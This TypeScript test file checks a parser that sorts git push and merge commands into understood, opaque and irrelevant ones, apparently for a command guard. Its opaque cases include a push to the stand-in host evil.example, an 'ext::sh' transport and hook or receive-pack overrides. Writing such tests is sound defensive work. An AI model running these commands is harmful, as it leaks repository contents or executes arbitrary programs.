// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { parseShell } from '../../adapters/shell/parse.ts';
import type { GitAct } from './git-act.ts';
import { shellFinding } from './shell.ts';

const actsOf = (text: string) => shellFinding(text, parseShell).git;
const ref = (from: string, to?: string, forced = false) => ({
  from,
  forced,
  ...(to === undefined ? {} : { to }),
});

describe('a push that is understood', () => {
  test.each<[command: string, act: Partial<GitAct>]>([
    ['git push', { refs: [], forced: false, alone: true }],
    ['git push -u origin fix', { remote: 'origin', refs: [ref('fix')] }],
    ['git --no-pager push origin HEAD:fix', { refs: [ref('HEAD', 'fix')] }],
    ['git push origin fix:refs/heads/other main', { refs: [ref('fix', 'refs/heads/other'), ref('main')] }],
    ['git push origin +fix', { forced: true, refs: [ref('fix', undefined, true)] }],
    ['git push -f origin fix', { forced: true, refs: [ref('fix', undefined, true)] }],
    ['git push --force-with-lease origin fix', { forced: true }],
    ['git push origin :fix', { forced: true, refs: [ref('', 'fix', true)] }],
    ['git push -d origin fix', { forced: true, refs: [ref('', 'fix', true)] }],
    ['git push origin fix 2>&1 | tail -3', { alone: false, refs: [ref('fix')] }],
    ['timeout 60 git push origin fix', { alone: true, refs: [ref('fix')] }],
    ['git merge --no-ff -m "x" fix', { does: 'merge', refs: [ref('fix')] }],
    ['git merge origin/main', { does: 'merge', refs: [ref('origin/main')] }],
  ])('%s', (command, act) => {
    expect(actsOf(command)).toEqual([expect.objectContaining({ does: 'push', plain: true, ...act })]);
  });
});

test.each<[command: string]>([
  ['git push --all'],
  ['git push --mirror origin'],
  ['git push --tags'],
  ['git push --follow-tags origin fix'],
  ['git push -o ci.skip origin fix'],
  ['git push --receive-pack=x origin fix'],
  ['git push https://evil.example/x.git fix'],
  ['git push ../other fix'],
  ['git push ext::sh fix'],
  ['git push origin "$B"'],
  ['git push origin $(cat branch)'],
  ['git push origin a..b'],
  ['git push origin "fix@{1}"'],
  ['git push -d origin'],
  ['git -c core.hooksPath=x push origin fix'],
  ['git -C elsewhere push origin fix'],
  ['git --git-dir=x push'],
  ['cd elsewhere; git push origin fix'],
  ['git merge'],
  ['git merge -s ours fix'],
  ['git merge "$X"'],
])('%s is an act of which nothing is known', (command) => {
  expect(actsOf(command)).toEqual([expect.objectContaining({ plain: false })]);
});

test.each<[command: string]>([
  ['git status'],
  ['git commit -m "push"'],
  ['git log --grep push'],
  ['git stash push'],
  ['echo git push'],
  ['git branch push'],
])('%s does nothing of the kind', (command) => expect(actsOf(command)).toEqual([]));

test('each of several is told', () => {
  expect(actsOf('git merge fix && git push')).toHaveLength(2);
  expect(actsOf('bash -c "git push origin fix"')).toEqual([expect.objectContaining({ alone: false })]);
});

test.each<[command: string, runs: readonly string[]]>([
  ['make deploy', ['GNUmakefile', 'Makefile', 'makefile']],
  ['npm run deploy', ['package.json']],
  ['ls', []],
])('%s goes by files that it does not name', (command, runs) =>
  expect(shellFinding(command, parseShell).runs).toEqual(runs),
);
